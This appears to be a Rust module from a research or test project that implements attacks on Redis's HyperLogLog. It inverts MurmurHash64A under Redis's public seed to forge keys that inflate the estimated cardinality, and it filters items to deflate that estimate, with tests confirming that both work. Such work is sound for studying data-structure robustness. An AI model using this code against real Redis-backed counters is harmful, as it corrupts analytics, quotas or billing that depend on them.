//! Attacks on a HyperLogLog whose hash the attacker can compute: Redis's
//! (MurmurHash64A with the public seed 0xadc83b19, p = 14). A register's
//! index is the hash's low p bits and its rank the position of the first set
//! bit above them, so an attacker who can hash chooses both.
//!
//! - Deflation, by filtering: of the items it controls, the attacker inserts
//!   only those whose register index is below a fraction of m (the other
//!   registers stay 0), or only those of rank 1 (no register passes 1). Many
//!   distinct items then read as a few tens of thousands.
//! - Inflation, by construction: MurmurHash64A on one 8-byte word is a
//!   bijection the attacker can invert, so for every register it writes the
//!   key whose hash has that index and a chosen rank, no search at all: m
//!   items read as m·2^rank·0.72.

use super::murmur::{M64A, inv64, m64a_k_inv, m64a_unfinalise};
use crate::structures::hyperloglog::index_and_rank;

/// Redis's HyperLogLog seed and precision (hyperloglog.c).
pub const REDIS_SEED: u64 = 0xadc8_3b19;
pub const REDIS_P: u32 = 14;

/// The 8-byte key whose MurmurHash64A under `seed` is `hash`: every step of
/// the function on one word is invertible (odd multiplications, and
/// x ^ (x >> 47), its own inverse).
pub fn murmur64a_preimage8(seed: u64, hash: u64) -> [u8; 8] {
    // undo the block: h = (h0 ^ K) * m, with h0 = seed ^ (8 * m)
    let h0 = seed ^ 8u64.wrapping_mul(M64A);
    let big = m64a_unfinalise(hash).wrapping_mul(inv64(M64A)) ^ h0;
    m64a_k_inv(big).to_le_bytes()
}

/// A hash word with register `index` and rank `rank` at precision `p`
/// (1 ≤ rank ≤ 65 − p), its bits above the rank's position taken from `filler`.
pub fn word(index: usize, rank: u32, p: u32, filler: u64) -> u64 {
    assert!(index < 1 << p && (1..=65 - p).contains(&rank));
    let one = p + rank - 1; // the first set bit above the index
    let high = if one >= 63 { 0 } else { filler << (one + 1) };
    index as u64 | 1u64.checked_shl(one).unwrap_or(0) | high
}

/// Inflation: one key per register, each of rank `rank`.
pub fn inflate(seed: u64, p: u32, rank: u32, mut filler: impl FnMut() -> u64) -> Vec<Vec<u8>> {
    (0..1usize << p)
        .map(|i| murmur64a_preimage8(seed, word(i, rank, p, filler())).to_vec())
        .collect()
}

/// How a deflation chooses its items.
#[derive(Clone, Copy, Debug, PartialEq)]
pub enum Deflate {
    /// Only items whose register index is below this share of m.
    Index(f64),
    /// Only items of rank 1 (the first bit above the index set).
    Rank1,
}

/// Deflation: the first `n` of the attacker's candidate items (`candidate(i)`)
/// that pass the filter on Redis's hash, and how many candidates it hashed.
pub fn deflate(
    mode: Deflate,
    n: usize,
    mut candidate: impl FnMut(u64) -> Vec<u8>,
) -> (Vec<Vec<u8>>, u64) {
    let limit = match mode {
        Deflate::Index(f) => (f * (1u64 << REDIS_P) as f64) as usize,
        Deflate::Rank1 => 0,
    };
    assert!(
        mode == Deflate::Rank1 || limit >= 1,
        "no register is reachable"
    );
    let mut out = Vec::with_capacity(n);
    let mut tries = 0u64;
    while out.len() < n {
        let e = candidate(tries);
        tries += 1;
        let (index, rank) = index_and_rank(murmurhash64::murmur_hash64a(&e, REDIS_SEED), REDIS_P);
        let keep = match mode {
            Deflate::Index(_) => index < limit,
            Deflate::Rank1 => rank == 1,
        };
        if keep {
            out.push(e);
        }
    }
    (out, tries)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::structures::hyperloglog::redis::RedisHll;

    #[test]
    fn preimages_hash_to_their_target() {
        for (i, target) in [0u64, 1, 0xdead_beef_cafe_f00d, u64::MAX]
            .into_iter()
            .enumerate()
        {
            for seed in [REDIS_SEED, 0, 0x1234_5678_9abc_def0 ^ i as u64] {
                let k = murmur64a_preimage8(seed, target);
                assert_eq!(murmurhash64::murmur_hash64a(&k, seed), target);
            }
        }
    }

    #[test]
    fn words_have_the_index_and_rank_asked_for() {
        for rank in [1, 2, 10, 51] {
            for index in [0, 1, 16_383] {
                let w = word(index, rank, 14, 0x5555_5555_5555_5555);
                assert_eq!(index_and_rank(w, 14), (index, rank as u8));
            }
        }
    }

    #[test]
    fn inflation_reads_as_millions() {
        let mut x = 0u64;
        let keys = inflate(REDIS_SEED, REDIS_P, 10, || {
            x += 1;
            x
        });
        let mut h = RedisHll::new();
        keys.iter().for_each(|k| {
            h.add(k);
        });
        assert_eq!(keys.len(), 16_384);
        // every register at 10: about 0.72 · m · 2^10
        let c = h.count() as f64;
        assert!(c > 1e7 && c < 1.4e7, "{c}");
    }
}
